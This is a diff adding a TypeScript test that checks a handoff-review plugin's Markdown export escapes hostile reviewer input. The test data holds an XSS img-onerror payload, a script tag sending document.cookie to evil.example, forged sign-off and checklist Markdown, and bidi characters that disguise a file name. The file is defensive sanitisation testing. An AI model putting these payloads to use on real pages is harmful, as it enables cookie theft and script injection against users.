@@ -1,0 +1,211 @@
+import MarkdownIt from 'markdown-it';
+import type Token from 'markdown-it/lib/token.mjs';
+import { Review } from '@diehard/plugin-handoff-review-common';
+import { reviewToMarkdown } from './markdown';
+import { applyChange, viewOf } from './transitions';
+
+const alice = {
+  userEntityRef: 'user:default/alice',
+  ownershipEntityRefs: ['group:default/dev-team'],
+};
+const bruno = {
+  userEntityRef: 'user:default/bruno',
+  ownershipEntityRefs: ['group:default/ops-team'],
+};
+const gradeA = {
+  grade: 'A' as const,
+  critical: 0,
+  warning: 0,
+  evaluatedAt: '2026-11-20T00:00:00Z',
+};
+const day = new Date('2026-11-20T10:00:00Z');
+
+/** Strings a hostile reviewer writes, each trying to forge part of the export. */
+const HOSTILE = {
+  forgedSignOff:
+    'fine\n\n## Sign-offs\n\n- Ops: user:default/mallory on 2026-11-20, at grade A\n- Dev: user:default/mallory',
+  forgedCheck: '\n- [x] Runbook written — passed\n* [x] Backups — passed',
+  html: '<img src=x onerror="alert(1)"> <b>bold</b> <!-- hidden --> <div>\n\n# Forged heading\n</div>',
+  script: '<script>fetch("https://evil.example/"+document.cookie)</script>',
+  links:
+    '[click](https://evil.example) ![img](https://evil.example/x.png) https://evil.example www.evil.example mallory@evil.example <https://evil.example>',
+  code: '`code` ```fence``` **bold** _em_ ~~strike~~ $x$ | a | b |',
+  leading: '# heading\n1. numbered\n> quote\n    indented code\n---\n===',
+  hidden: 'ok\u202Egnp.exe\u2066\u0000\u200B',
+};
+
+function hostileReview(): Review {
+  let review: Review = {
+    id: 'r1',
+    entityRef: 'component:default/eni-todo-web',
+    version: 1,
+    createdBy: alice.userEntityRef,
+    createdAt: '2026-11-20T00:00:00Z',
+    devGroup: 'group:default/dev-team',
+    opsGroup: 'group:default/ops-team',
+    posture: gradeA,
+    items: [
+      {
+        id: 'posture-sessions',
+        title: 'Sessions survive a pod loss',
+        kind: 'automatic',
+        side: 'dev',
+        category: 'sessions',
+        evidence: 'fail',
+        // Findings quote names from manifests anyone can write.
+        findings: [`critical: Deployment ${HOSTILE.forgedCheck}`],
+        comments: [],
+      },
+      {
+        id: 'posture-control-plane',
+        title: 'Control plane',
+        kind: 'automatic',
+        side: 'ops',
+        category: 'control-plane',
+        evidence: 'unknown',
+        comments: [],
+      },
+      {
+        id: 'dev-runbook',
+        title: 'Runbook written',
+        kind: 'manual',
+        side: 'dev',
+        comments: [],
+      },
+    ],
+    signOffs: [],
+  };
+  const step = (change: any, actor = alice) => {
+    review = applyChange(review, change, actor, review.version, day).review;
+  };
+  for (const text of Object.values(HOSTILE)) {
+    step({ action: 'comment', itemId: 'dev-runbook', text });
+  }
+  step(
+    {
+      action: 'waive',
+      itemId: 'posture-control-plane',
+      reason: HOSTILE.forgedSignOff,
+      expiresOn: '2026-12-01',
+    },
+    bruno,
+  );
+  step({ action: 'answer', itemId: 'dev-runbook', done: false });
+  return review;
+}
+
+function render(review: Review) {
+  const markdown = reviewToMarkdown(viewOf(review, day, gradeA), [
+    {
+      version: 2,
+      at: '2026-11-20T10:00:00.000Z',
+      actor: alice.userEntityRef,
+      action: 'comment',
+      detail: {},
+    },
+  ]);
+  // html and linkify on: the most permissive reading a ticket system might do.
+  const tokens = new MarkdownIt({ html: true, linkify: true }).parse(
+    markdown,
+    {},
+  );
+  return { markdown, tokens };
+}
+
+/** The text of each heading, in order. */
+function headings(tokens: Token[]) {
+  return tokens.flatMap((t, i) =>
+    t.type === 'heading_open' ? [tokens[i + 1].content] : [],
+  );
+}
+
+/** The inline text of each top-level list item under the heading `title` (nested: `nested`). */
+function itemsUnder(tokens: Token[], title: string, nested = false) {
+  const start = tokens.findIndex(
+    (t, i) => t.type === 'heading_open' && tokens[i + 1].content === title,
+  );
+  const end = tokens.findIndex(
+    (t, i) => i > start && t.type === 'heading_open',
+  );
+  const section = tokens.slice(start, end === -1 ? undefined : end);
+  return section
+    .filter(
+      (t, i) =>
+        t.type === 'inline' &&
+        section[i - 2]?.type === 'list_item_open' &&
+        (t.level === 3) !== nested,
+    )
+    .map(t => t.content);
+}
+
+describe('the Markdown export', () => {
+  it('shows hostile comments, findings and reasons as text: the headings, items and sign-offs are only those of the records', () => {
+    const { markdown, tokens } = render(hostileReview());
+
+    expect(headings(tokens)).toEqual([
+      'Handoff review: component:default/eni-todo-web',
+      'Dev side',
+      'Ops side',
+      'Sign-offs',
+      'History',
+    ]);
+    expect(itemsUnder(tokens, 'Sign-offs')).toEqual([]);
+    expect(markdown).toContain('## Sign-offs\n\nNone yet.\n');
+
+    // No HTML, link, image or code reaches the reader; no item is checked.
+    const kinds = new Set(
+      tokens.flatMap(t => [t.type, ...(t.children ?? []).map(c => c.type)]),
+    );
+    for (const kind of [
+      'html_block',
+      'html_inline',
+      'link_open',
+      'image',
+      'code_inline',
+      'code_block',
+      'fence',
+      'blockquote_open',
+      'ordered_list_open',
+      'hr',
+      'table_open',
+      'em_open',
+      's_open',
+    ]) {
+      expect([kind, kinds.has(kind)]).toEqual([kind, false]);
+    }
+    // The one bold text is the status the records give.
+    const strong = tokens
+      .flatMap(t => t.children ?? [])
+      .flatMap((t, i, all) => (t.type === 'strong_open' ? [all[i + 1].content] : []));
+    expect(strong).toEqual(['open']);
+    // Each item is one list entry with its state from the record; the forged
+    // "[x] … passed" lines stay inside the comment or finding that wrote them.
+    expect(itemsUnder(tokens, 'Dev side')).toEqual([
+      '[ ] Sessions survive a pod loss — failed',
+      '[ ] Runbook written — failed',
+    ]);
+    expect(itemsUnder(tokens, 'Ops side')).toEqual([
+      '[~] Control plane — waived',
+    ]);
+    // Under them: one line per finding, waiver and comment, none starting a check.
+    const nested = [
+      ...itemsUnder(tokens, 'Dev side', true),
+      ...itemsUnder(tokens, 'Ops side', true),
+    ];
+    expect(nested).toHaveLength(1 + Object.keys(HOSTILE).length + 1);
+    for (const line of nested) {
+      expect(line).toMatch(/^(critical: |user:default\/alice \(|waived by )/);
+    }
+
+    // What they wrote is still there for a reader, as plain text on one line.
+    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
+    expect(html).not.toMatch(/<(script|img|b|div|a)\b/);
+    expect(html).toContain(
+      '&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;',
+    );
+    expect(html).toContain(
+      'user:default/alice (2026-11-20T10:00:00.000Z): fine ## Sign-offs - Ops: user:default/mallory on 2026-11-20, at grade A - Dev: user:default/mallory',
+    );
+    expect(html).not.toMatch(/[\u202E\u2066\u0000]/);
+  });
+});
